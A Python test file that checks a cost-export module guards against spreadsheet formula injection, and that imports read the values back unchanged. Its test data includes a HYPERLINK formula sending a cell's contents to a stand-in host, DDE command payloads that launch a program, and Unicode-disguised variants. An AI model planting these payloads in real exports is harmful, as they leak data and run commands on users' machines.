"""Names that a spreadsheet would run: an export shows them as text, and an import reads them back."""

from __future__ import annotations

import csv
import gzip
import io
from itertools import product
from pathlib import Path

import pytest

from allocation.focus.engine.layout import Layout, line_of
from allocation.focus.importers.files import opened
from governance.pages.engine.spreadsheets import guarded, unguarded

pytestmark = pytest.mark.adversary("what is not yours")

FORMULAS = (
    '=HYPERLINK("https://example.com/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(A1)", "\t=1+1",
    "\r=1", "\n=1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "﹦1", "−1+1", "'=1", "''@x", " =1+1", "\u00a0=1",
    "\u3000+1", "\ufeff=1", "\u200b=1", "\u202e=1", '"=1+1', '\'" =1', "-1-1", "+1 ", "=", "-",
)  # fmt: skip
# What a reader of figures and names must find as it was.
PLAIN = ("-1.5", "+2", "-1e-7", "1-1", "a=b", "x -1", "'s", "' a", " x", '"quoted"', '{"a": "=1"}', "é", "")


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_an_export_begins_as_a_formula_does(name: str, tmp_path: Path) -> None:
    layout = Layout.of("1.2", {"x_Team"})
    cells = {"ServiceName": name, "x_Team": name, "BilledCost": "-1.5", "EffectiveCost": "-2"}
    text = layout.header() + layout.line(cells) + layout.template(cells).line % () % ()
    for row in list(csv.DictReader(io.StringIO(text, newline="")))[:2]:
        assert (row["ServiceName"][0], row["BilledCost"], row["EffectiveCost"]) == ("'", "-1.5", "-2")
    file = tmp_path / "export.csv.gz"
    file.write_bytes(gzip.compress((layout.header() + layout.line(cells)).encode()))
    with opened(file) as read:
        row_read = dict(zip(read.table.columns, next(iter(read.rows())), strict=True))
    assert (row_read["ServiceName"], row_read["x_Team"], row_read["BilledCost"]) == (name, name, "-1.5")


@pytest.mark.parametrize("cell", PLAIN)
def test_what_no_spreadsheet_runs_stands_as_it_is(cell: str) -> None:
    assert (guarded(cell), unguarded(cell)) == (cell, cell)


def test_every_text_comes_back() -> None:
    marks = "='\" -+@\t\r\n＝a1\u00a0\u3000\ufeff−﹢"
    texts = ["".join(each) for length in range(5) for each in product(marks, repeat=length)]
    assert [text for text in texts if unguarded(guarded(text)) != text] == []


@pytest.mark.parametrize("name", [name for name in FORMULAS if "\r" not in name])
def test_the_name_of_a_column_is_a_cell_too(name: str, tmp_path: Path) -> None:
    """An import goes out as it stood, with columns of whoever delivered it."""
    header = line_of(["BilledCost", name])
    assert next(csv.reader(io.StringIO(header, newline="")))[1][0] == "'"
    file = tmp_path / "export.csv"
    file.write_text(f"{header}1,2\n", newline="")
    with opened(file) as read:
        assert read.table.columns == ("BilledCost", name)
